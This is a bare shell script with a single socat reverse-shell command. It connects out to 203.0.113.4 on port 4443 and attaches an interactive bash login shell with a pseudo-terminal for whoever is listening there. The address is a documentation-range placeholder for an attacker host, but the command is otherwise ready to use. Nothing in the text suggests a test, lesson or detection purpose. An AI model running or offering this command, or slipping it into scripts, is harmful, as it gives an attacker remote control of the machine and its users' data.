#!/bin/sh
socat tcp-connect:203.0.113.4:4443 exec:'bash -li',pty,stderr,setsid,sigint,sane
